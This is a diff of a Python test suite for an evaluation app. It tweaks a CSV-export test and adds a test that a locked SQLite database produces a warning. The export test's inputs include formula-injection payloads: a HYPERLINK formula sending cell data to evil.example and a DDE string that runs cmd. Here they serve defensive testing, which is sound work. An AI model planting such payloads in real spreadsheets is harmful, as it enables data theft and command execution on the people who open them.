@@ -95,7 +95,7 @@ def test_the_evaluation_csv_never_starts_a_cell_with_a_formula():
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", "'=1+1", "''两个撇号", "普通的回答"]
     run = ev.new_run([Question("q1", "问题", "参考")], ev.RunSettings(kb_id=1, kb_name="资料"))
-    for i, text in enumerate(hostile):
+    for text in hostile:
         run.rows.append(ev.Row(id=text, question=text, reference=text, answer=text,
                                passages=[ev.Passage(text, text, 1.0)], recall_method=""))
     exported = ev.to_csv(run)
@@ -270,3 +270,31 @@ def test_uploads_stop_when_the_database_reaches_its_size_limit(tmp_path):
     refused = [r for r in reports if r.status == FAILED]
     assert refused and all(r.error.id == "kb.error.storage_full" for r in refused)
     assert kbs.index.stored_bytes() < 2_000_000 + 1_000_000
+
+
+def test_a_locked_database_during_an_evaluation_is_a_message_not_a_traceback(app_env, fake, tmp_path):
+    import sqlite3
+
+    from streamlit.testing.v1 import AppTest
+
+    from components.navigation import EVALUATE
+    from tests.apptest import APP, TIMEOUT
+    from tests.test_evaluate_page import OWNER, TOKEN, build_kb
+
+    db = tmp_path / "chats.db"
+    build_kb(fake, db, OWNER, "公司资料")
+    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
+    at.query_params["o"] = TOKEN
+    at.run()
+    at.switch_page(EVALUATE).run()
+    assert not at.exception, at.exception
+    other = sqlite3.connect(db, isolation_level=None)
+    other.execute("BEGIN EXCLUSIVE")  # another process writing for a long time
+    try:
+        at.number_input(key="eval_count").set_value(3)
+        at.button(key="eval_run").click().run()
+    finally:
+        other.execute("ROLLBACK")
+        other.close()
+    assert not at.exception, at.exception[0].message if at.exception else ""
+    assert at.warning, "the page should say the store is unavailable"
